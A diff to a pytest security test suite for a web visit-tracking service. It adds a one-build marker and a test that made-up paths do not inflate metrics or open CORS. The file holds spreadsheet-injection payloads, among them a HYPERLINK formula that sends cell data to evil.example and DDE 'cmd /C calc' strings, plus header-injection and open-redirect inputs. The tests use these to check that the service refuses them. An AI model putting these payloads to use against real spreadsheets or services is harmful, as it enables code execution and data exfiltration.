@@ -36,6 +36,8 @@ CAMPAIGN = SITE + "/sale?utm_source=yandex&utm_medium=cpc&utm_campaign="
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 AMO_TOKEN = "amo-secret-token-42"
+# what only the HTTP layer decides needs one build (the reference one: it is there in every install)
+ONE_BUILD = pytest.mark.parametrize("build", ["reference"])
 STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -135,6 +137,7 @@ def test_formulas_in_utm_tags_are_neutralised_in_both_csv_exports(made):
 
 
 # -- header injection / response splitting -----------------------------------------------------
+@ONE_BUILD
 def test_a_visitor_id_cannot_split_or_add_headers(made):
     """The visitor id is the one value echoed into a header (Set-Cookie): one with CR/LF is refused,
     and one that would add cookie attributes is answered but never set as the cookie."""
@@ -156,6 +159,7 @@ def test_a_visitor_id_cannot_split_or_add_headers(made):
         assert "evil.example" not in r.headers.get("set-cookie", "") and "evil" not in r.json()["visitor_id"]
 
 
+@ONE_BUILD
 def test_the_dashboard_redirects_only_to_itself(made):
     """Sign-in and sign-out send the browser to /dashboard whatever the request carries, and the
     trailing-slash redirect stays on this service (no //evil.example open redirect)."""
@@ -214,7 +218,7 @@ POSTS = [("/v1/visit", 16 * 1024, {}), ("/v1/heartbeat", 16 * 1024, {}), ("/v1/i
          ("/dashboard/login", 4096, {}), ("/dashboard/logout", 4096, {})]
 
 
-@pytest.mark.parametrize("build", ["compiled"])  # the HTTP layer only: one build is enough
+@ONE_BUILD
 def test_every_post_refuses_an_oversized_body_declared_or_streamed(wide_open):
     """One byte over each route's limit is a 413, whether Content-Length says so or a chunked body
     runs over; the service then answers as before."""
@@ -230,7 +234,7 @@ def test_every_post_refuses_an_oversized_body_declared_or_streamed(wide_open):
         assert httpx.get(f"{base}/healthz").json()["status"] == "ok"
 
 
-@pytest.mark.parametrize("build", ["compiled"])
+@ONE_BUILD
 def test_deeply_nested_json_is_a_clear_4xx_on_every_json_post(wide_open):
     """JSON nested as deep as each route's limit allows ([[[[...]]]], {"a":{"a":...}}) is a 400 or
     422 naming the body (204 on /v1/intent, which never answers an error), never a 500."""
@@ -255,7 +259,7 @@ def test_deeply_nested_json_is_a_clear_4xx_on_every_json_post(wide_open):
 
 
 # -- secrets kept out of the logs ---------------------------------------------------------------
-@pytest.mark.parametrize("build", ["compiled"])
+@ONE_BUILD
 def test_no_api_key_or_webhook_token_reaches_the_logs(wide_open):
     """The API key (header, right or wrong), the amoCRM token (it travels in the URL: amoCRM signs
     nothing) and a dashboard sign-in key appear in no log line, the access log included."""
@@ -314,6 +318,7 @@ def _sign_in_until_refused(base, forwarded, key="not-the-key", attempts=40):
     return False
 
 
+@ONE_BUILD
 def test_sign_in_attempts_are_limited_per_client_not_per_proxy(made):
     """Guessing keys at the sign-in form is limited per client: an X-Forwarded-For from an untrusted
     peer changes nothing, and behind a trusted proxy one client's failures do not lock the others out."""
@@ -372,6 +377,7 @@ def _signed_in(base):
     return client, csrf, got
 
 
+@ONE_BUILD
 def test_signing_out_cannot_be_forged(made):
     """A page elsewhere cannot sign the staff out: without the form's token, with a guessed one, or
     from another Origin the sign-out is 403 and the session still opens the reports."""
@@ -392,6 +398,7 @@ def _cookie(response, name):
     return {p.strip().split("=")[0].lower(): p.strip() for p in found[0].split(";")}
 
 
+@ONE_BUILD
 @pytest.mark.parametrize("secure", [True, None])
 def test_cookies_carry_their_flags(made, secure):
     """The session and CSRF cookies are HttpOnly and SameSite=Strict, the visitor's SameSite=Lax (the
@@ -420,6 +427,7 @@ def test_cookies_carry_their_flags(made, secure):
 
 
 # -- static files, CORS, the open endpoints -----------------------------------------------------------
+@ONE_BUILD
 def test_the_static_route_serves_its_three_files_and_nothing_else(made):
     engine = made()
     with service(engine) as base:
@@ -433,6 +441,7 @@ def test_the_static_route_serves_its_three_files_and_nothing_else(made):
         assert raw.status_code == 404 and "import" not in raw.text
 
 
+@ONE_BUILD
 def test_cors_answers_only_the_allowed_origin(made):
     """The public endpoints give CORS headers (with credentials) to the configured site only: not to
     look-alikes, its subdomains or ``null``; those are refused outright when the guard checks origins."""
@@ -456,6 +465,7 @@ def test_cors_answers_only_the_allowed_origin(made):
         assert forged.status_code == 415  # a form or text/plain post needs no preflight: refused
 
 
+@ONE_BUILD
 def test_the_open_endpoints_tell_nothing_private(made):
     """/healthz says ok and the build, nothing of the process; /metrics and the private routes want a
     key (a metrics key opens /metrics only); a wrong key of any length is refused the same way."""
@@ -474,6 +484,7 @@ def test_the_open_endpoints_tell_nothing_private(made):
         assert httpx.get(f"{base}/metrics", headers={"Authorization": f"Bearer {KEY}"}).status_code == 200
 
 
+@ONE_BUILD
 def test_every_configured_key_is_compared_in_constant_time(made, monkeypatch):
     """No early exit: each configured key goes through hmac.compare_digest, whichever matches (a
     loop that stopped at the first match, or ``==``, would tell by its time which key is close)."""
@@ -532,6 +543,7 @@ def test_visitors_utm_tags_are_text_on_the_dashboard(made, browser):  # noqa: F8
     assert ran is None and injected == 0
 
 
+@ONE_BUILD
 def test_the_demo_page_and_docs_escape_what_the_request_carries(made):
     """The demo page writes the request's own address into the snippet's tag: a Host header with
     markup in it comes out escaped. /docs is built from the OpenAPI document, every text escaped,
@@ -595,7 +607,7 @@ def test_a_visitor_id_with_a_trailing_newline_is_no_cookie_value():
 WEBHOOK_SECRET = "attack-webhook-secret-0123"
 
 
-@pytest.mark.parametrize("build", ["compiled"])
+@ONE_BUILD
 def test_webhooks_refuse_forged_stale_replayed_and_tokenless_requests(wide_open):
     """POST /v1/calls with a signature: a changed body, an old timestamp, the same signed request a
     second time, a Twilio signature over a JSON body and no credentials at all are 401, each naming
@@ -638,6 +650,7 @@ def test_webhooks_refuse_forged_stale_replayed_and_tokenless_requests(wide_open)
             assert r.status_code == 401, token
 
 
+@ONE_BUILD
 def test_sign_in_behind_a_tls_proxy_takes_the_public_origin_only(made):
     """``k50core serve --public-url https://track.example.ru`` behind a proxy that ends TLS: the
     browser's form comes with ``Origin: https://track.example.ru`` while the request reaches the
@@ -657,6 +670,7 @@ def test_sign_in_behind_a_tls_proxy_takes_the_public_origin_only(made):
 
 
 # -- queries and headers that would cost the service dearly ---------------------------------------------------
+@ONE_BUILD
 def test_queries_that_would_cost_dearly_are_refused(made):
     """A pool usage of a second a step over centuries, a negative or zero step, an unknown or
     formula-like report dimension, a page of a million calls: a 400 naming the parameter."""
@@ -672,6 +686,7 @@ def test_queries_that_would_cost_dearly_are_refused(made):
         assert r.status_code == 400 and r.json()["problems"][0]["field"] == "limit"
 
 
+@ONE_BUILD
 def test_huge_headers_are_refused_and_the_service_goes_on(made):
     """A 200 KB Cookie header (or thousands of headers) never reaches the app: uvicorn refuses it, and
     the next request is answered as usual."""
@@ -684,3 +699,26 @@ def test_huge_headers_are_refused_and_the_service_goes_on(made):
             except httpx.HTTPError:  # the connection closed on it
                 pass
         assert httpx.post(f"{base}/v1/visit", json={"url": SITE}, headers={"User-Agent": UA}).status_code == 200
+
+
+@ONE_BUILD
+def test_made_up_paths_and_values_do_not_grow_the_metrics_or_open_cors(made):
+    """What a client chooses (paths, methods, pools it names, origins) is no metric label: hundreds of
+    made-up paths leave /metrics as it was. The private endpoints answer no CORS at all, so a page
+    elsewhere cannot read a report with the staff's session."""
+    engine = made()
+    with service(engine) as base:
+        with httpx.Client(base_url=base) as client:
+            before = len(client.get("/metrics", headers=AUTH).text.splitlines())
+            for n in range(300):
+                client.request(("GET", "POST", "PURGE")[n % 3], f"/x{n}/v1/visit{n}")
+            client.post("/v1/visit", json={"url": SITE, "pool": "made-up"}, headers={"User-Agent": UA})
+            after = client.get("/metrics", headers=AUTH).text
+        assert not [line for line in after.splitlines() if "/x" in line or "made-up" in line or "PURGE" in line]
+        assert len(after.splitlines()) <= before + 20  # the visit's own counters, not one per path
+        client, _, _ = _signed_in(base)
+        r = client.get("/v1/reports", headers={"Origin": "https://evil.example"})
+        assert r.status_code == 200 and "access-control-allow-origin" not in r.headers
+        pre = client.options("/v1/reports", headers={"Origin": "https://evil.example",
+                                                     "Access-Control-Request-Method": "GET"})
+        assert "access-control-allow-origin" not in pre.headers
